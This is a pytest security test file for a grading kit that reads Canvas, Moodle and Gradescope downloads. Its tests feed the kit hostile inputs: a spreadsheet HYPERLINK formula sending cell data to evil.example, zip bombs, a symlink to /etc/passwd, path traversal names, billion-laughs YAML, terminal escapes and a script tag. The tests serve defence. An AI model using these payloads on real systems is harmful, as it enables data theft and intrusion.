"""The platform round trip attacked: every byte of a download is hostile (a student chooses
their files' names and contents, and may choose the name the platform shows), the Canvas
server may misbehave, and an instructor may hand the wrong file. Each test builds the hostile
download or server itself, from the platform's documented naming (the builders in
tests/platforms/ cite the sources: Canvas's lib/content_zipper.rb, Moodle's
mod/assign/classes/downloader.php and gradingtable.php, Gradescope's export layout), and checks
that the kit refuses it in one line, or reads it without harm."""

import argparse
import csv
import json
import os
import stat
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import unicodedata
import zipfile
from datetime import timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from exactmark.base.exits import Exit
from exactmark.base.tree import Limits, Refused
from exactmark.base.visible import escaped
from exactmark.classroom import mark_class, platform_class, unpack
from exactmark.kit.bundle import write_all
from exactmark.kit.cases import ROOT
from exactmark.platforms import canvas, canvas_api, gradescope_export, moodle
from exactmark.platforms.download import Context, Person, Returned
from tests import test_platform_canvas as canvas_test
from tests.platforms import canvas_server, moodle_download
from tests.platforms.canvas_download import Submitter as CanvasSubmitter
from tests.platforms.canvas_download import write_folder as canvas_folder
from tests.platforms.gradescope_download import (METADATA, Submission, Submitter,
                                                 export_folder_name, write_export)
from tests.test_mark_class import ASSIGNMENT as CLASS_ASSIGNMENT
from tests.test_mark_class import HIDDEN, VISIBLE, others

pytestmark = pytest.mark.filterwarnings("ignore:Canvas may respond unexpectedly")

CONTEXT = Context(expected=frozenset({"solitaire_1.py", "solitaire_2.py"}), zone=timezone.utc,
                  assignment="solitaires")
TOKEN = "7~attack-token-never-shown"
COURSE, ASSIGNMENT = "5", "77"


class Hostile(BaseHTTPRequestHandler):
    """A server at Canvas's address that answers as the test's `answer(handler)` says:
    (status, body bytes, headers)."""

    def do_GET(self):
        with self.server.lock:
            self.server.asked += 1
        status, body, headers = self.server.answer(self)
        self.send_response(status)
        for name, value in {"Content-Type": "application/json", **headers}.items():
            self.send_header(name, value)
        if "Transfer-Encoding" not in headers:
            self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        try:
            if isinstance(body, bytes):
                self.wfile.write(body)
                return
            for chunk in body:  # chunked: each a chunk, until the client hangs up
                self.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                with self.server.lock:
                    self.server.sent += len(chunk)
            self.wfile.write(b"0\r\n\r\n")
        except OSError:  # the client hung up, as the kit does past its bounds: nothing to say
            return

    def log_message(self, *args):
        """Quiet: the tests count what was asked."""


@pytest.fixture
def hostile():
    """Start a hostile Canvas on 127.0.0.1 with `hostile(answer)`; each is shut down when the
    test ends."""
    started = []

    def start(answer):
        httpd = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
        httpd.lock, httpd.asked, httpd.sent, httpd.answer = threading.Lock(), 0, 0, answer
        httpd.daemon_threads = True
        thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05},
                                  daemon=True)
        thread.start()
        started.append((httpd, thread))
        httpd.url = f"http://127.0.0.1:{httpd.server_address[1]}"
        return httpd

    yield start
    for httpd, thread in started:
        httpd.shutdown()
        httpd.server_close()
        thread.join()


def fetched_error(url: str, token: str = TOKEN) -> ValueError:
    """The one line fetch says, with its whole traceback checked to hold no token."""
    with pytest.raises(ValueError) as failed:
        canvas_api.fetch(url, COURSE, ASSIGNMENT, environ={"CANVAS_TOKEN": token}, backoff=0)
    shown = "".join(traceback.format_exception(failed.value))
    assert token not in shown and "attack-token" not in shown, shown
    assert "\n" not in str(failed.value)
    return failed.value


def json_of(value) -> bytes:
    return json.dumps(value).encode()


@pytest.mark.parametrize("status", [400, 409, 422])
def test_a_canvas_that_echoes_the_authorization_header_in_an_error_never_shows_the_token(
        hostile, status):
    """canvasapi makes the body of a 400, 409 or 422 its exception's message: a server (or a
    proxy before it) that echoes the request's headers there must not put the token on the
    instructor's terminal."""
    server = hostile(lambda handler: (status, json_of({"errors": [
        {"message": f"bad request; you sent {handler.headers.get('Authorization')}"}]}), {}))
    said = fetched_error(server.url)
    assert str(said) == canvas_api.FAILED.format(
        url=server.url, why=canvas_api.FAILED_STATUS.format(status=status))


@pytest.mark.parametrize("token", ["7~tök€n", "7~token\u200b", "7~tok\x1ben"])
def test_a_token_that_is_no_canvas_token_is_said_without_it_before_any_request(hostile, token):
    """A token pasted with a character no Canvas token has (a euro sign, a zero-width space,
    an escape): one line that shows none of it, and nothing sent."""
    server = hostile(lambda handler: (200, b"{}", {}))
    with pytest.raises(ValueError) as refused:
        canvas_api.fetch(server.url, COURSE, ASSIGNMENT, environ={"CANVAS_TOKEN": token},
                         backoff=0)
    assert str(refused.value) == canvas_api.TOKEN_NOT_TEXT
    assert server.asked == 0


def test_a_redirect_to_another_host_never_carries_the_token(hostile):
    """Canvas's address answers with a redirect to another host name: requests drops the
    Authorization header there (Session.rebuild_auth), so the other host never sees it."""
    seen = []

    def other(handler):
        seen.append(handler.headers.get("Authorization"))
        return 404, json_of({"errors": [{"message": "not here"}]}), {}

    elsewhere = hostile(other)
    moved = f"http://localhost:{elsewhere.server_address[1]}"
    server = hostile(lambda handler: (302, b"", {"Location": moved + handler.path}))
    fetched_error(server.url)
    assert seen and seen == [None] * len(seen)


def test_a_canvas_that_pages_forever_is_asked_a_bounded_number_of_times(hostile, monkeypatch):
    """Every page of the sections links to a next one, for ever: the kit stops after
    MOST_REQUESTS requests and says so."""
    monkeypatch.setattr(canvas_api, "MOST_REQUESTS", 50)

    def answer(handler):
        if "/sections" not in handler.path:
            return 200, json_of({"id": 5, "name": "Patience 101", "points_possible": 1}), {}
        link = f'<{server.url}/api/v1/courses/5/sections?page={server.asked}>; rel="next"'
        return 200, json_of([{"id": server.asked, "name": "again"}]), {"Link": link}

    server = hostile(answer)
    said = fetched_error(server.url)
    assert str(said) == canvas_api.TOO_MANY_REQUESTS.format(url=server.url, most=50)
    assert server.asked == 50


@pytest.mark.parametrize("chunked", [False, True], ids=["with a length", "chunked"])
def test_a_canvas_answer_larger_than_any_course_needs_is_refused_unread(hostile, monkeypatch,
                                                                         chunked):
    """An answer of many MOST_ANSWER_BYTES (said by its Content-Length, or sent in chunks with
    none): refused in one line once the limit is passed, never read whole into memory."""
    monkeypatch.setattr(canvas_api, "MOST_ANSWER_BYTES", 1 << 20)
    chunk = b" " * (64 << 10)
    if chunked:
        server = hostile(lambda handler: (200, iter([chunk] * 256),
                                          {"Transfer-Encoding": "chunked"}))
    else:
        server = hostile(lambda handler: (200, b"[" + b" " * (16 << 20) + b"]", {}))
    said = fetched_error(server.url)
    assert str(said) == canvas_api.TOO_LARGE.format(url=server.url, most=1 << 20)
    assert server.sent <= 8 << 20  # the client hung up long before the 16 MiB were sent


@pytest.mark.parametrize("address", ["http://ann:hunter2@{host}", "http://{host}/?access_token={token}",
                                     "http://{host}/#{token}"],
                         ids=["user info", "a query", "a fragment"])
def test_a_canvas_url_with_a_secret_in_it_is_refused_without_showing_it(hostile, address):
    """A password in the URL would replace the token by Basic authentication (requests takes
    it from the URL) and be shown in every message that names the URL; a token put in its
    query would be shown so too: refused in one line naming neither, and nothing sent."""
    server = hostile(lambda handler: (404, b"{}", {}))
    url = address.format(host=server.url.split("//")[1], token=TOKEN)
    said = fetched_error(url)
    assert str(said) == canvas_api.URL_NOT_PLAIN and "hunter2" not in str(said)
    assert server.asked == 0



# Gradescope: submission_metadata.yml is the student's platform's sheet, read as hostile.

def laughs(people: int, submissions: int) -> str:
    """Billion laughs in Gradescope's own keys: one list of `people` submitters, named by an
    anchor, then `submissions` entries that each alias the whole list (a few bytes each)."""
    lines = ["team: &everyone"] + [f"- {{':name': p{n}, ':sid': '{n}'}}" for n in range(people)]
    lines += [f"submission_{n}: {{':submitters': *everyone, ':created_at': 2027-03-01 10:00:00 Z}}"
              for n in range(submissions)]
    return "\n".join(lines) + "\n"


def test_a_metadata_whose_aliases_expand_past_its_size_is_refused_before_it_is_read(tmp_path):
    """400 entries aliasing one list of 400 submitters: 42 kB that stand for 160,000
    submitters (each aliased list read as a team). The document, its aliases counted each
    time they are used, may hold no more values than it has bytes: refused in one line."""
    export = tmp_path / export_folder_name()
    export.mkdir()
    (export / METADATA).write_text(laughs(400, 400), encoding="utf-8")
    size = (export / METADATA).stat().st_size
    with pytest.raises(Refused) as refused:
        gradescope_export.read(tmp_path, CONTEXT)
    assert str(refused.value) == gradescope_export.METADATA_EXPANDS.format(
        file=export / METADATA, most=size)


def test_aliases_gradescope_s_own_writer_could_use_are_read(tmp_path):
    """Ruby's YAML writer names an object used twice (&1, *1): a submitter listed again by
    alias stays within the document's size, and reads as the same person."""
    export = tmp_path / export_folder_name()
    export.mkdir()
    (export / "submission_1").mkdir()
    (export / "submission_1" / "solitaire_1.py").write_bytes(b"print(1)\n")
    (export / METADATA).write_text(
        "submission_1:\n  :submitters:\n  - &1\n    :name: Ann Lee\n    :sid: '1001'\n"
        "  - *1\n  :created_at: 2027-03-01 10:00:00.000000000 Z\n", encoding="utf-8")
    download = gradescope_export.read(tmp_path, CONTEXT)
    assert [(h.key, [p.id for p in h.members]) for h in download.handins] == [("1", ["1001"])]


def test_a_team_of_many_submitters_is_read_once_each(tmp_path):
    """A submission naming 5,000 submitters (one alias-free list of 300 kB; the limit allows
    200 times as many): each is a member once, the one named twice once too, each looked up
    once (each was compared with every member before it: n squared over 2 comparisons)."""
    people = [Submitter(f"P{n}", str(n), f"p{n}@example.edu") for n in range(5_000)]
    write_export(tmp_path, [Submission(1, people + people[:1], "2027-03-01 10:00:00 Z",
                                       {"solitaire_1.py": b"print(1)\n"})])
    download = gradescope_export.read(tmp_path, CONTEXT)
    (handin,) = download.handins
    assert [person.id for person in handin.members] == [str(n) for n in range(5_000)]



# Moodle: the grading worksheet goes back to the instructor's spreadsheet, then to Moodle.

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"click")'


def test_a_worksheet_cell_a_student_wrote_goes_back_as_text_never_a_formula(tmp_path):
    """A student who named themselves =HYPERLINK(...) (Moodle's worksheet writes the name as
    it is), with an email and a department that start a formula: in moodle-worksheet.csv each
    gets the kit's apostrophe; the cells Moodle's upload reads, and Moodle's own, stay byte for
    byte."""
    columns = moodle_download.INDIVIDUAL[:3] + ("Department",) + moodle_download.INDIVIDUAL[3:]
    cells = {"Identifier": "Participant 11", "Full name": HYPERLINK, "Email address": "+1@x.edu",
             "Department": "-2+3", "Status": "Submitted for grading", "Grade": "",
             "Maximum Grade": "10.00", "Grade can be changed": "Yes",
             "Last modified (submission)": "-", "Last modified (grade)": "-",
             "Feedback comments": ""}
    sheet = tmp_path / "worksheet.csv"
    sheet.write_bytes(moodle_download.worksheet([cells], columns))
    download = moodle_download.write_folder(tmp_path / "download", moodle_download.entries(
        moodle_download.student_prefix(HYPERLINK, 11), {"solitaire_1.py": b"print(1)\n"}))
    context = Context(**{**vars(CONTEXT), "worksheet": sheet})
    read = moodle.read(download, context)
    (student,) = read.roster
    assert student.name == HYPERLINK  # as Moodle has it, for the pages (escaped there)
    moodle.write_back(tmp_path, read, [Returned(student, 8.0, 10.0, "marked")], context)
    lines = (tmp_path / moodle.WRITTEN).read_bytes().decode("utf-8-sig").splitlines()
    assert lines[1] == ('"Participant 11","\'=HYPERLINK(""http://evil.example/?""&A2,""click"")",'
                        "'+1@x.edu,'-2+3,\"Submitted for grading\",8,10.00,Yes,-,-,marked")



# Canvas: the download's names, and the names its API gives, are the students'.

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "solitaire_1<RLO>yp.exe" shows as "solitaire_1exe.py"


def test_a_resubmitted_file_s_name_is_shown_escaped_on_its_row(tmp_path):
    """A student uploads "solitaire_1<RLO>yp.py" twice (Canvas stores the second as "...-1"):
    the row's note names the older file with the override drawn, as every name a student
    wrote."""
    folder = canvas_folder(tmp_path / "download", [CanvasSubmitter("Lee, Ann", 7, files=[
        (100, f"solitaire_1{RLO}yp.py", b"print(1)\n"),
        (101, f"solitaire_1{RLO}yp-1.py", b"print(2)\n")])])
    download = canvas.read(folder, CONTEXT)
    taken = platform_class.Taken("canvas", canvas, download, CONTEXT, "", [], download.handins)
    (student,), _ = platform_class.students_of(taken, folder, None, None)
    assert student.notes == [platform_class.OLDER.format(
        names="leeann_7_100_solitaire_1⟨U+202E⟩yp.py")]


def test_a_group_and_member_name_from_the_api_are_shown_escaped_on_the_row(tmp_path):
    """Canvas lets students name their own groups, and themselves: a group named with a
    terminal escape and a member with an override are drawn on the row's note."""
    folder = canvas_folder(tmp_path / "download", [CanvasSubmitter("Lee, Ann", 7, files=[
        (100, "solitaire_1.py", b"print(1)\n")])])
    ann, bo = Person("7", f"Ann{RLO}eeL"), Person("8", "Bo Chen")
    group = dict(group_id="40", group_name="\x1b]8;;http://evil.example\x07Team\x1b[2J")
    fetched = canvas_api.Fetched("77", "Solitaires", 10.0, {
        "7": canvas_api.Submitted(ann, None, False, 1, **group),
        "8": canvas_api.Submitted(bo, None, False, None, **group)}, [ann, bo])
    (team,) = canvas_api.with_times(canvas.read(folder, CONTEXT), fetched).handins
    assert team.notes[-1] == canvas_api.GROUP_NOTE.format(
        group="⟨U+001B⟩]8;;http://evil.example⟨U+0007⟩Team⟨U+001B⟩[2J",
        members="Ann⟨U+202E⟩eeL, Bo Chen")


def test_a_file_named_like_another_student_s_canvas_file_stays_its_uploader_s(tmp_path):
    """Ann (user 7) uploads "smithbob_340934_1_solitaire_1.py", Bob Smith's own Canvas name
    for his file: Canvas prefixes it with Ann's name and id, so it stays Ann's, under the name
    she gave it (not marked as solitaire_1.py); Bob's hand-in is his file alone."""
    folder = canvas_folder(tmp_path / "download", [
        CanvasSubmitter("Lee, Ann", 7, files=[(100, "smithbob_340934_1_solitaire_1.py", b"x")]),
        CanvasSubmitter("Smith, Bob", 340934, files=[(1, "solitaire_1.py", b"print(1)\n")])])
    by_key = {h.key: h for h in canvas.read(folder, CONTEXT).handins}
    assert {key: list(h.files) for key, h in by_key.items()} == {
        "7": ["smithbob_340934_1_solitaire_1.py"], "340934": ["solitaire_1.py"]}
    assert by_key["340934"].files["solitaire_1.py"].name == "smithbob_340934_1_solitaire_1.py"


def test_a_sortable_name_that_forges_another_s_id_is_said_on_the_row_it_reaches(tmp_path):
    """A student (user 777) sets their sortable name to "A_ 5_ 9": Canvas closes up only
    "_digits_" (sanitize_user_name), then drops the spaces, so their file is
    "a_5_9_777_888_solitaire_1.py", and Canvas's own reading (the first "_digits_" is the
    user) gives it to user 5. It cannot replace user 5's file (its name keeps "777_888_"),
    and the row says that the download names user 5 two ways."""
    folder = canvas_folder(tmp_path / "download", [
        CanvasSubmitter("A_ 5_ 9", 777, files=[(888, "solitaire_1.py", b"print('forged')\n")]),
        CanvasSubmitter("Victim, Vic", 5, files=[(100, "solitaire_1.py", b"print(1)\n")])])
    assert sorted(path.name for path in folder.iterdir()) == [
        "a_5_9_777_888_solitaire_1.py", "victimvic_5_100_solitaire_1.py"]
    (handin,) = canvas.read(folder, CONTEXT).handins
    assert handin.key == "5" and handin.files["solitaire_1.py"].name.startswith("victimvic_")
    assert sorted(handin.files) == ["777_888_solitaire_1.py", "solitaire_1.py"]
    assert handin.notes == [canvas.NAMES_DIFFER.format(id="5", names="a, victimvic")]



# The class's zip: unpacked by the class marker before any platform reads it.

class Assignment:
    """What take() reads of an assignment."""
    name, deadline, programs, marks = "solitaires", None, {}, 10


def options(submissions, **given) -> argparse.Namespace:
    return argparse.Namespace(**{"submissions": submissions, "platform": "canvas",
                                 "worksheet": None, "roster": None, "canvas_url": None,
                                 "canvas_course": None, "canvas_assignment": None, **given})


def taken(tmp_path, members: list, **given):
    """The class zip of `members` ((ZipInfo or name, bytes)) taken as --from canvas: the
    Taken, or the ValueError's line."""
    download = tmp_path / "submissions.zip"
    with zipfile.ZipFile(download, "w") as archive:
        for name, data in members:
            archive.writestr(name, data)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    try:
        return platform_class.take(options(download, **given), Assignment, scratch)
    except ValueError as problem:
        return str(problem)


ANN = ("leeann_7_100_solitaire_1.py", b"print(1)\n")


@pytest.mark.parametrize("name", ["smithbob_8_1_sol\titaire_1.py", "smithbob_8_1_\x1b[2Jx.py",
                                  "smithbob_8_1_a\nb.py"], ids=["tab", "escape", "newline"])
def test_a_file_named_with_a_control_character_is_left_out_not_the_whole_class(tmp_path, name):
    """Canvas keeps a control character in the name a student gave their file
    (sanitize_attachment_filename replaces only NUL / \\ : * ? " < > |): the class is read,
    that one file left out on a row of its own, its name drawn."""
    found = taken(tmp_path, [ANN, (name, b"x")])
    assert not isinstance(found, str), found
    assert [(h.key, list(h.files)) for h in found.handins] == [("7", ["solitaire_1.py"])]
    assert [(r.name, r.reason) for r in found.download.refused] == [
        (unpack._shown(name), platform_class.NAME_LEFT_OUT)]


def link(name: str, target: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


@pytest.mark.parametrize("member, said", [
    ((link("smithbob_8_1_solitaire_1.py", "/etc/passwd"), b"/etc/passwd"),
     unpack.MEMBER_LINK.format(member="'smithbob_8_1_solitaire_1.py'")),
    (ANN, unpack.MEMBER_AGAIN.format(member=f"'{ANN[0]}'")),
    (("/tmp/smithbob_8_1_x.py", b"x"), unpack.MEMBER_ABSOLUTE.format(member="'/tmp/smithbob_8_1_x.py'")),
    (("../smithbob_8_1_x.py", b"x"), unpack.MEMBER_CLIMBS.format(member="'../smithbob_8_1_x.py'")),
    (("..\\smithbob_8_1_x.py", b"x"), unpack.MEMBER_CLIMBS.format(member="'..\\\\smithbob_8_1_x.py'")),
], ids=["symlink", "duplicate", "absolute", "dot-dot", "backslash-dot-dot"])
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_class_zip_canvas_never_writes_is_refused_whole_in_one_line(tmp_path, member, said):
    """A link, a member named twice, an absolute path, a climb out with '..' (a Windows '\\'
    read as the separator it is): no platform writes these, so the zip is not the download
    as it came; refused whole, before anything is read, in one line."""
    found = taken(tmp_path, [ANN, member])
    assert found == platform_class.CLASS_REFUSED.format(path=tmp_path / "submissions.zip",
                                                        reason=said)
    assert list((tmp_path / "scratch").iterdir()) == []


def test_a_class_zip_that_expands_past_the_limit_is_refused_having_written_no_more(
        tmp_path, monkeypatch):
    """A zip bomb for a class: a 64 MiB member of zeros (a few kB in the zip) against a
    1 MiB limit: refused, and nothing left in the scratch folder."""
    monkeypatch.setattr(platform_class, "CLASS_LIMITS", Limits(files=100, depth=4, bytes=1 << 20))
    bomb = zipfile.ZipInfo("smithbob_8_1_solitaire_1.py")
    bomb.compress_type = zipfile.ZIP_DEFLATED
    found = taken(tmp_path, [ANN, (bomb, bytes(64 << 20))])
    assert (tmp_path / "submissions.zip").stat().st_size < 256 << 10
    assert found == platform_class.CLASS_REFUSED.format(
        path=tmp_path / "submissions.zip", reason=unpack.TOO_LARGE.format(
            archive="'submissions.zip'", most=1 << 20, member="'smithbob_8_1_solitaire_1.py'"))
    assert list((tmp_path / "scratch").iterdir()) == []


def test_a_class_zip_of_more_members_than_the_limit_is_refused_before_any_is_written(
        tmp_path, monkeypatch):
    monkeypatch.setattr(platform_class, "CLASS_LIMITS", Limits(files=100, depth=4, bytes=1 << 20))
    found = taken(tmp_path, [(f"s{n}_{n}_1_a.py", b"") for n in range(101)])
    assert found == platform_class.CLASS_REFUSED.format(
        path=tmp_path / "submissions.zip", reason=unpack.TOO_MANY_MEMBERS.format(
            archive="'submissions.zip'", count=101, most=100, member="'s100_100_1_a.py'"))
    assert list((tmp_path / "scratch").iterdir()) == []


@pytest.mark.parametrize("wrong", ["large", "fifo"])
def test_a_wrong_worksheet_too_large_or_no_file_is_refused_unread(tmp_path, monkeypatch, wrong):
    """The instructor gives a file far larger than any class's worksheet (a 2 GB export, or
    /dev/zero), or a FIFO that would wait for ever: one line, nothing read past the limit."""
    monkeypatch.setattr(moodle, "WORKSHEET_MOST", 1 << 10)
    sheet = tmp_path / "worksheet.csv"
    if wrong == "large":
        sheet.write_bytes(moodle_download.worksheet([]) + b"#" * (1 << 10))
        problem = moodle.TOO_LARGE.format(size=sheet.stat().st_size, most=1 << 10)
    else:
        os.mkfifo(sheet)
        problem = moodle.NOT_A_FILE
    with pytest.raises(ValueError) as refused:
        moodle.read_worksheet(sheet)
    assert str(refused.value) == moodle.BAD_SHEET.format(path=sheet, problem=problem)


# Moodle and Gradescope: names that claim another student's, or a place outside the export.

def test_a_moodle_name_that_claims_another_participant_stays_its_owner_s(tmp_path):
    """Eve (participant 11) names herself "Bob_12_assignsubmission_file", uploads in folders
    a subfolder of that name, and flat a file named as Moodle names Bob's: Moodle makes every
    "_" of a name a space before it names a file (get_student_prefix), so each stays Eve's,
    under the name she gave it; Bob (12) has his file alone."""
    eve = moodle_download.student_prefix("Bob_12_assignsubmission_file", 11)
    bob = moodle_download.student_prefix("Bob", 12)
    files = {
        **moodle_download.entries(eve, {"Bob_12_assignsubmission_file/solitaire_1.py": b"1"}),
        **moodle_download.entries(eve, {"Bob_12_assignsubmission_file_solitaire_1.py": b"2"},
                                  folders=False),
        **moodle_download.entries(bob, {"solitaire_1.py": b"print(1)\n"})}
    read = moodle.read(moodle_download.write_folder(tmp_path / "download", files), CONTEXT)
    assert {h.key: sorted(h.files) for h in read.handins} == {
        "11": ["Bob_12_assignsubmission_file/solitaire_1.py",
               "Bob_12_assignsubmission_file_solitaire_1.py"],
        "12": ["solitaire_1.py"]}
    assert read.refused == []


@pytest.mark.parametrize("key", ["submission_../..", "..", "/etc", "submission_1/../../x",
                                 "..\\\\..\\\\x", ".hidden", "a\x00b"])
def test_a_gradescope_metadata_naming_a_place_outside_the_export_reads_nothing_there(
        tmp_path, key):
    """A metadata entry whose name would reach outside the export (or hide in it): refused on
    a row of its own, nothing of it read; the real submission beside it is read."""
    secret = tmp_path / "secret.py"
    secret.write_bytes(b"the instructor's\n")
    export = write_export(tmp_path / "download", [Submission(
        1, [Submitter("Ann Lee", "1001")], "2027-03-01 10:00:00 Z",
        {"solitaire_1.py": b"print(1)\n"})])
    entry = ("  :submitters:\n  - :name: Eve\n    :sid: '666'\n"
             "  :created_at: 2027-03-01 10:00:00 Z\n")
    with open(export / METADATA, "a", encoding="utf-8") as metadata:
        metadata.write(f"{json.dumps(key)}:\n{entry}")
    read = gradescope_export.read(tmp_path / "download", CONTEXT)
    assert [(h.key, sorted(h.files)) for h in read.handins] == [("1", ["solitaire_1.py"])]
    assert [(r.name, r.reason) for r in read.refused] == [
        (escaped(key), gradescope_export.NOT_A_FOLDER_NAME)]


# Every cell the kit writes passes the formula rule.

def test_every_canvas_grades_cell_from_canvas_is_text_never_a_formula(tmp_path):
    """A student's sortable name, SIS ids and section as Canvas's API gives them, each a
    formula: canvas-grades.csv gives each as text (the import matches on ID, which stays)."""
    person = Person("7", "Ann", extra=(("Student", "=HYPERLINK(\"http://evil.example\")"),
                                       ("SIS User ID", "+1"), ("SIS Login ID", "@SUM(A1)"),
                                       ("Section", "-1;=2")))
    download = canvas_api.with_times(canvas.Download("canvas", []), canvas_api.Fetched(
        "77", "=Solitaires", 10.0, {}, [person]))
    canvas.write_back(tmp_path, download, [Returned(person, 8.0, 10.0, "")], CONTEXT)
    lines = (tmp_path / canvas.SHEET).read_text(encoding="utf-8").splitlines()
    assert lines == ["Student,ID,SIS User ID,SIS Login ID,Section,'=Solitaires (77)",
                     "    Points Possible,,,,,10",
                     '"\'=HYPERLINK(""http://evil.example"")",7,\'+1,\'@SUM(A1),\'-1;\'=2,8']


def test_a_lone_archive_that_is_a_zip_bomb_refuses_its_student_alone(tmp_path):
    """A hand-in of one zip whose member expands far past the student's limit: copying it
    refuses that student (their row says why), and leaves nothing of it."""
    bomb = tmp_path / "leeann_7_100_work.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("solitaire_1.py", bytes(8 << 20))
    student = platform_class.Student("Ann Lee", tmp_path, platform_class.HANDIN,
                                     files={"work.zip": bomb})
    with pytest.raises(Refused) as refused:
        platform_class.copy_handin(student, tmp_path / "copy", Limits(files=10, depth=4,
                                                                      bytes=1 << 20))
    assert str(refused.value) == unpack.TOO_LARGE.format(
        archive="'leeann_7_100_work.zip'", most=1 << 20, member="'solitaire_1.py'")
    assert not (tmp_path / "copy").exists()


# The honest user.

def test_a_worksheet_saved_by_excel_with_semicolons_goes_back_as_excel_saved_it(tmp_path):
    """Excel set to a language whose lists take ';' saves the worksheet with ';' between
    cells, CRLF line ends and a byte-order mark; Moodle's upload takes it so (its form's
    separator: tab, comma, colon or semicolon, assignfeedback/offline/uploadgradesform.php).
    It is read, and goes back in the same form with the mark and comment filled in."""
    cells = {"Identifier": "Participant 11", "Full name": "Ann Lee", "Email address": "a@x.edu",
             "Status": "Submitted for grading", "Grade": "", "Maximum Grade": "10",
             "Grade can be changed": "Yes",
             "Last modified (submission)": "Monday, 8 March 2027, 2:30 PM",
             "Last modified (grade)": "-", "Feedback comments": ""}
    columns = moodle_download.INDIVIDUAL
    text = "".join(";".join(row) + "\r\n" for row in (columns, [cells[c] for c in columns]))
    sheet = tmp_path / "worksheet.csv"
    sheet.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    download = moodle_download.write_folder(tmp_path / "download", moodle_download.entries(
        moodle_download.student_prefix("Ann Lee", 11), {"solitaire_1.py": b"print(1)\n"}))
    context = Context(**{**vars(CONTEXT), "worksheet": sheet})
    read = moodle.read(download, context)
    (handin,) = read.handins
    assert handin.name == "Ann Lee" and handin.submitted.hour == 14
    moodle.write_back(tmp_path, read, [Returned(read.roster[0], 7.5, 10.0, "late; a, b")],
                      context)
    assert (tmp_path / moodle.WRITTEN).read_bytes() == b"\xef\xbb\xbf" + text.replace(
        "Yes;Monday, 8 March 2027, 2:30 PM;-;", 'Yes;Monday, 8 March 2027, 2:30 PM;-;"late; a, b"'
    ).replace("Submitted for grading;;10", "Submitted for grading;7.5;10").encode("utf-8")


def twenty_students(tmp_path):
    """A Canvas download of twenty students, and the class's assignment as a.toml beside it."""
    download = tmp_path / "submissions.zip"
    with zipfile.ZipFile(download, "w") as archive:
        for n in range(20):
            archive.writestr(f"student{n}_{n + 1}_{n + 100}_solitaire_1.py", b"print(1)\n")
    (tmp_path / "a.toml").write_text(CLASS_ASSIGNMENT.format(
        visible=json.dumps(VISIBLE), hidden=json.dumps(HIDDEN),
        kit_only_1=others("solitaire_1", VISIBLE + HIDDEN),
        kit_only_2=others("solitaire_2", ["seed_0_full"])), encoding="utf-8")
    return download


def test_ctrl_c_while_the_class_zip_is_unpacked_leaves_nothing_behind(tmp_path, monkeypatch,
                                                                       capsys):
    """Ctrl-C on the tenth member of the class's download: the run stops in one line, the
    half-unpacked download is removed from the scratch folder, and OUT is never made."""
    download = twenty_students(tmp_path)
    placed, place = [], unpack._Writer.place

    def interrupted(self, *args):
        placed.append(args)
        if len(placed) == 10:
            raise KeyboardInterrupt
        return place(self, *args)

    monkeypatch.setattr(unpack._Writer, "place", interrupted)
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    status = mark_class.main([str(download), "--from", "canvas", "--assignment",
                              str(tmp_path / "a.toml"), "--out", str(tmp_path / "out")])
    assert status == Exit.INTERRUPTED
    assert capsys.readouterr().err == mark_class.READ_INTERRUPTED + "\n"
    assert list(scratch.iterdir()) == [] and not (tmp_path / "out").exists()


def test_names_a_student_chose_reach_the_terminal_the_sheet_and_the_pages_harmless(tmp_path):
    """A Gradescope export whose submitters named themselves a formula (with an SID that starts
    one), a script with a terminal escape, and a right-to-left override: marked end to end,
    every line said on the terminal has no control character, grades.csv gives each cell as
    text, and no page holds the script as HTML."""
    write_all(tmp_path / "solutions")
    right = (tmp_path / "solutions" / "solitaire_1.py").read_bytes()
    names = [(HYPERLINK, "+1"), ("<script>alert(1)</script>\x1b[31mRed", "@2"),
             (f"Ann{RLO}eeL", "-3")]
    write_export(tmp_path / "download", [
        Submission(n, [Submitter(name, sid, f"s{n}@example.edu")], "2027-03-08 10:00:00 Z",
                   {"solitaire_1.py": right}) for n, (name, sid) in enumerate(names, 1)])
    (tmp_path / "a.toml").write_text(CLASS_ASSIGNMENT.format(
        visible=json.dumps(VISIBLE), hidden=json.dumps(HIDDEN),
        kit_only_1=others("solitaire_1", VISIBLE + HIDDEN),
        kit_only_2=others("solitaire_2", ["seed_0_full"])), encoding="utf-8")
    out = tmp_path / "out"
    done = subprocess.run([sys.executable, "-m", "exactmark", "class", str(tmp_path / "download"),
                           "--from", "gradescope", "--assignment", str(tmp_path / "a.toml"),
                           "--out", str(out)], cwd=ROOT, capture_output=True, text=True,
                          timeout=600)
    assert done.returncode == 0, done.stderr
    said = done.stdout + done.stderr
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in said.replace("\n", ""))
    with open(out / "grades.csv", newline="", encoding="utf-8") as sheet:
        rows = {row[-2]: row[0] for row in list(csv.reader(sheet))[1:]}
    assert rows == {"'+1": "'" + HYPERLINK,
                    "'@2": "<script>alert(1)</script>⟨U+001B⟩[31mRed",
                    "'-3": "Ann⟨U+202E⟩eeL"}
    pages = [out / "summary.html", *(out / "students").glob("*/feedback.html")]
    assert len(pages) == 4
    assert not any("<script>alert" in page.read_text(encoding="utf-8") for page in pages)


def test_a_canvas_that_hangs_up_halfway_through_an_answer_is_said_in_one_line(hostile):
    """The answer says 1,000 bytes and the connection closes after 10: one line, as for a
    Canvas that does not answer (requests' own reading would say so; the kit reads the body
    itself, within its limit)."""
    def answer(handler):
        handler.send_response(200)
        handler.send_header("Content-Length", "1000")
        handler.end_headers()
        handler.wfile.write(b'[{"id": 1,')
        handler.close_connection = True
